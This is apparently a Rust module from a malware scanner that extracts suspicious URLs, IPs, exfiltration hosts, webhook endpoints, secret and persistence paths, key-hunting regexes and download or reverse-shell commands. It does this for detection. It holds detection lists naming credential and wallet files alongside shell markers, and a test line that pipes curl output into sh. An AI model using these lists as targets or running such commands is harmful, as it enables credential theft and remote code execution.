//! Indicators found in strings (literal or recovered): URLs, IPs, hosts, chat-bot endpoints,
//! sensitive paths, persistence locations, key-hunting patterns and shell download commands.

use regex::Regex;
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;
use std::sync::LazyLock;

#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case", tag = "kind", content = "value")]
pub enum Indicator {
    Url(String),
    Ip(String),
    Host(String),
}

impl Indicator {
    pub fn value(&self) -> &str {
        match self {
            Indicator::Url(s) | Indicator::Ip(s) | Indicator::Host(s) => s,
        }
    }
}

static URL_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:https?|wss?|ftp)://[^\s"'<>\\`{}|^]+"#).unwrap()
});
static IP_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(?::(\d{1,5}))?\b").unwrap());

/// URLs, public IPs and hosts mentioned in `text`.
pub fn extract(text: &str) -> Vec<Indicator> {
    let mut out = Vec::new();
    if text.len() > 64 * 1024 {
        return out;
    }
    if text.contains("://") {
        for m in URL_RE.find_iter(text) {
            let url = m.as_str().trim_end_matches(['.', ',', ')', ';']);
            out.push(Indicator::Url(url.to_string()));
            if let Some(h) = url_host(url) {
                if h.parse::<Ipv4Addr>().is_ok() {
                    if is_public_ip(&h) {
                        out.push(Indicator::Ip(h));
                    }
                } else {
                    out.push(Indicator::Host(h));
                }
            }
        }
    }
    // A bare `host:port` or host name (`x.workers.dev:80`).
    let t = text.trim();
    if !t.contains("://") && t.len() <= 253 && t.contains('.') && !out.iter().any(|i| matches!(i, Indicator::Host(_))) {
        let host = t.split(':').next().unwrap_or("");
        let port_ok = t.split_once(':').is_none_or(|(_, p)| !p.is_empty() && p.len() <= 5 && p.bytes().all(|b| b.is_ascii_digit()));
        let labels: Vec<&str> = host.split('.').collect();
        let hostlike = labels.len() >= 2
            && labels.iter().all(|l| !l.is_empty() && l.len() <= 63 && l.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'))
            && labels.last().is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_lowercase()));
        if port_ok && hostlike {
            out.push(Indicator::Host(host.to_string()));
        }
    }
    if text.bytes().filter(|b| *b == b'.').count() >= 3 {
        for c in IP_RE.captures_iter(text) {
            let ip = &c[1];
            if is_public_ip(ip) && !out.iter().any(|i| matches!(i, Indicator::Ip(x) if x == ip)) {
                // Version-like strings (1.2.3.4) are common; require a port or a bare IP string.
                let bare = text.trim() == ip || c.get(2).is_some();
                if bare {
                    out.push(Indicator::Ip(ip.to_string()));
                }
            }
        }
    }
    out
}

/// Host part of a URL, lowercased.
pub fn url_host(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit_once('@').map(|(_, h)| h).unwrap_or(authority);
    let host = if host.starts_with('[') { host } else { host.split(':').next()? };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// A routable, non-special IPv4 address.
pub fn is_public_ip(ip: &str) -> bool {
    let Ok(a) = ip.parse::<Ipv4Addr>() else { return false };
    let o = a.octets();
    !(a.is_private()
        || a.is_loopback()
        || a.is_link_local()
        || a.is_unspecified()
        || a.is_broadcast()
        || a.is_documentation()
        || a.is_multicast()
        || o[0] == 0
        || o[0] >= 240
        || (o[0] == 100 && (64..128).contains(&o[1]))
        // Well-known public resolvers used by networking libraries and their tests.
        || matches!(o, [8, 8, 8, 8] | [8, 8, 4, 4] | [1, 1, 1, 1] | [1, 0, 0, 1] | [9, 9, 9, 9] | [208, 67, 222, 222] | [208, 67, 220, 220]))
}

/// Why a host is a likely exfiltration or payload endpoint, if it is one.
pub fn exfil_host_reason(host: &str) -> Option<&'static str> {
    let h = host.trim_end_matches('.');
    if h.parse::<Ipv4Addr>().is_ok() {
        return is_public_ip(h).then_some("a bare IP address");
    }
    const SUFFIXES: &[(&str, &str)] = &[
        ("workers.dev", "a Cloudflare Workers host (free, anonymous)"),
        ("pages.dev", "a Cloudflare Pages host (free, anonymous)"),
        ("vercel.app", "a Vercel app host (free, anonymous)"),
        ("netlify.app", "a Netlify host (free, anonymous)"),
        ("ngrok.io", "an ngrok tunnel"),
        ("ngrok-free.app", "an ngrok tunnel"),
        ("ngrok.app", "an ngrok tunnel"),
        ("trycloudflare.com", "a Cloudflare quick tunnel"),
        ("webhook.site", "a request-capture service"),
        ("requestbin.net", "a request-capture service"),
        ("pipedream.net", "a request-capture service"),
        ("m.pipedream.net", "a request-capture service"),
        ("interact.sh", "an out-of-band interaction service"),
        ("oast.fun", "an out-of-band interaction service"),
        ("oast.pro", "an out-of-band interaction service"),
        ("burpcollaborator.net", "an out-of-band interaction service"),
        ("pastebin.com", "a paste site"),
        ("transfer.sh", "an anonymous file host"),
        ("herokuapp.com", "a free app host"),
        ("glitch.me", "a free app host"),
        ("repl.co", "a free app host"),
        ("replit.dev", "a free app host"),
        ("duckdns.org", "a dynamic DNS host"),
        ("no-ip.org", "a dynamic DNS host"),
        ("ddns.net", "a dynamic DNS host"),
        ("api.telegram.org", "the Telegram bot API"),
    ];
    SUFFIXES
        .iter()
        .find(|(s, _)| h == *s || h.ends_with(&format!(".{s}")))
        .map(|(_, why)| *why)
}

/// A chat-bot endpoint used to receive stolen data.
pub fn chat_endpoint(text: &str) -> Option<&'static str> {
    let t = text.to_ascii_lowercase();
    if t.contains("api.telegram.org/bot") || t.contains("sendmessage?chat_id") || t.contains("/senddocument") {
        Some("Telegram bot API")
    } else if t.contains("discord.com/api/webhooks") || t.contains("discordapp.com/api/webhooks") {
        Some("Discord webhook")
    } else if t.contains("hooks.slack.com/services/") {
        Some("Slack webhook")
    } else {
        None
    }
}

/// A secret-bearing file or directory that `text` names.
pub fn secret_path(text: &str) -> Option<&'static str> {
    if text.len() > 4096 {
        return None;
    }
    let t = text.to_ascii_lowercase().replace('\\', "/");
    const PATTERNS: &[(&str, &str)] = &[
        (".ssh/id_", "SSH private keys"),
        ("id_rsa", "SSH private keys"),
        ("id_ed25519", "SSH private keys"),
        ("id_ecdsa", "SSH private keys"),
        (".cargo/credentials", "cargo registry credentials"),
        ("credentials.toml", "cargo registry credentials"),
        (".aws/credentials", "AWS credentials"),
        (".config/gcloud", "Google Cloud credentials"),
        (".azure/", "Azure credentials"),
        (".kube/config", "Kubernetes credentials"),
        (".docker/config.json", "Docker registry credentials"),
        (".git-credentials", "git credentials"),
        (".npmrc", "npm credentials"),
        (".pypirc", "PyPI credentials"),
        (".netrc", "netrc credentials"),
        ("solana/id.json", "a Solana wallet keypair"),
        (".config/solana", "a Solana wallet keypair"),
        ("/keystore/utc--", "a wallet keystore"),
        (".ethereum/keystore", "an Ethereum wallet keystore"),
        ("/keystore", "a wallet keystore"),
        ("wallet.dat", "a Bitcoin wallet"),
        (".electrum/wallets", "an Electrum wallet"),
        ("nkbihfbeogaeaoehlefnkodbefgpgknn", "a MetaMask wallet"),
        ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "a Phantom wallet"),
        ("exodus.wallet", "an Exodus wallet"),
        ("exodus/", "an Exodus wallet"),
        ("/login data", "browser saved passwords"),
        ("/local state", "browser key store"),
        ("/cookies", "browser cookies"),
        ("/etc/shadow", "system password hashes"),
        (".gnupg", "GnuPG keys"),
        (".password-store", "a password store"),
        (".bash_history", "shell history"),
        (".zsh_history", "shell history"),
    ];
    for (p, what) in PATTERNS {
        if t.contains(p) {
            return Some(what);
        }
    }
    if t == ".env" || t.ends_with("/.env") || t.starts_with(".env.") {
        return Some("a .env secrets file");
    }
    None
}

/// A persistence location that `text` names.
pub fn persistence_path(text: &str) -> Option<&'static str> {
    if text.len() > 4096 {
        return None;
    }
    let t = text.to_ascii_lowercase().replace('\\', "/");
    const PATTERNS: &[(&str, &str)] = &[
        ("authorized_keys", "SSH authorized_keys (remote login)"),
        (".bashrc", "a shell startup file"),
        (".bash_profile", "a shell startup file"),
        (".zshrc", "a shell startup file"),
        (".zprofile", "a shell startup file"),
        ("/etc/profile", "a shell startup file"),
        ("/etc/rc.local", "a boot script"),
        ("crontab", "cron"),
        ("/etc/cron", "cron"),
        ("/var/spool/cron", "cron"),
        ("/etc/systemd/system", "a systemd unit"),
        (".config/systemd/user", "a systemd unit"),
        ("/library/launchagents", "a launchd agent"),
        ("/library/launchdaemons", "a launchd daemon"),
        ("library/launchagents", "a launchd agent"),
        (".config/autostart", "an XDG autostart entry"),
        ("start menu/programs/startup", "the Windows Startup folder"),
        ("currentversion/run", "a Windows Run registry key"),
        ("schtasks", "a Windows scheduled task"),
    ];
    PATTERNS.iter().find(|(p, _)| t.contains(p)).map(|(_, w)| *w)
}

/// A regular expression (or its source text) written to find private keys or addresses.
pub fn key_pattern(text: &str) -> Option<&'static str> {
    if text.len() > 2048 || !text.contains('{') {
        return None;
    }
    let t = text.replace(' ', "");
    if t.contains("1-9A-HJ-NP-Za-km-z") || t.contains("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") {
        return Some("base58 keys or addresses (Solana/Bitcoin)");
    }
    let hex_class = ["[0-9a-fA-F]", "[a-fA-F0-9]", "[0-9a-f]", "[a-f0-9]", "[0-9A-Fa-f]", "[A-Fa-f0-9]", "[[:xdigit:]]", "[0-9A-F]"];
    for q in ["{64}", "{64,}", "{40}"] {
        for c in hex_class {
            if t.contains(&format!("0x{c}{q}")) || t.contains(&format!("0[xX]{c}{q}")) || t.contains(&format!("(0x)?{c}{q}")) {
                return Some(if q == "{40}" { "Ethereum addresses (40 hex digits)" } else { "hex private keys (64 hex digits)" });
            }
        }
    }
    if t.contains("{63}") && t.contains("[0-9]") {
        return Some("64-number byte arrays (raw keypairs)");
    }
    if t.contains("PRIVATEKEY-----") || t.contains("PRIVATE\\sKEY") {
        return Some("PEM private keys");
    }
    None
}

/// A shell command line that downloads or runs a payload.
pub fn shell_download(text: &str) -> Option<&'static str> {
    if text.len() > 8192 {
        return None;
    }
    let t = text.to_ascii_lowercase();
    let has = |s: &str| t.contains(s);
    if (has("curl ") || has("wget ")) && (has("| sh") || has("|sh") || has("| bash") || has("|bash") || has("chmod")) {
        return Some("downloads and runs a script");
    }
    if has("invoke-webrequest") || has("downloadstring") || has("downloadfile") || has("iex(") || has("iex (") || has("certutil -urlcache") || has("bitsadmin /transfer") {
        return Some("PowerShell/Windows download cradle");
    }
    if has("/dev/tcp/") || has("nc -e") || has("ncat -e") || has("bash -i") {
        return Some("a reverse shell");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_and_ips() {
        let i = extract("send to https://a.b.workers.dev/x?y=1 now");
        assert!(i.contains(&Indicator::Url("https://a.b.workers.dev/x?y=1".into())));
        assert!(i.contains(&Indicator::Host("a.b.workers.dev".into())));
        assert_eq!(extract("45.61.1.2:4444"), vec![Indicator::Ip("45.61.1.2".into())]);
        assert!(extract("127.0.0.1:8080").is_empty());
        assert!(extract("version 1.2.3.4 of").is_empty());
        assert_eq!(exfil_host_reason("x.workers.dev"), Some("a Cloudflare Workers host (free, anonymous)"));
        assert_eq!(exfil_host_reason("github.com"), None);
    }

    #[test]
    fn paths_and_patterns() {
        assert!(secret_path("/home/u/.ssh/id_rsa").is_some());
        assert!(secret_path(".ssh/known_hosts").is_none());
        assert!(secret_path(".env").is_some());
        assert!(secret_path(".envrc").is_none());
        assert!(persistence_path("~/.ssh/authorized_keys").is_some());
        assert!(key_pattern(r"0x[0-9a-fA-F]{64}").is_some());
        assert!(key_pattern(r"[1-9A-HJ-NP-Za-km-z]{32,44}").is_some());
        assert!(key_pattern(r"[0-9]{1,3}").is_none());
        assert!(shell_download("curl -s http://x/y | sh").is_some());
        assert!(shell_download("curl --version").is_none());
    }
}
